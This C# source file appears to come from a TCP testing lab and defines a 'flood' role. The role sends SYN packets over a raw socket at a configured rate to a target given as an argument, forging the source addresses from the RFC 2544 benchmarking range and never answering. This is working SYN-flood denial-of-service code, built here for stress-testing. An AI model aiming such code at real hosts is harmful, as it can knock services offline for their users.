using System.Buffers.Binary;
using TcpVet.Lab.Packets;
using TcpVet.Model;

namespace TcpVet.Lab.Acting;

/// <summary>
/// Sends SYNs from addresses that are nobody's, and answers nothing. Arguments: where to; the first IPv4 address that it
/// claims, with the port; SYNs a second.
/// </summary>
internal static class Flood
{
    internal const string Role = "flood";

    // The laboratory's network of invented sources has 2^17 addresses (RFC 2544, 198.18.0.0/15).
    private const uint Sources = 1 << 17;

    private const int RoundMs = 100;

    internal static void Play(Part part)
    {
        InetEndpoint to = part.Endpoint(0);
        InetEndpoint first = part.Endpoint(1);
        int perRound = Math.Max(1, part.Number(2) * RoundMs / 1000);
        byte[] address = new byte[4];
        first.Addr.Write(address);
        uint start = BinaryPrimitives.ReadUInt32BigEndian(address);
        uint sent = 0;
        byte[] packet = new byte[SynPacket.Length];
        using LabSocket raw = LabSocket.OpenRaw();
        Part.Ready();
        do
        {
            for (int i = 0; i < perRound; i++, sent++)
            {
                BinaryPrimitives.WriteUInt32BigEndian(address, start + (sent % Sources));
                InetEndpoint from = new(InetAddress.Read(AddressFamily.IPv4, address), first.Port);
                SynPacket.Write(packet, from, to, sequence: sent * 2654435761);
                raw.SendTo(new(to.Addr, 0), packet);
            }
        }
        while (Part.Wait(TimeSpan.FromMilliseconds(RoundMs)));
    }
}
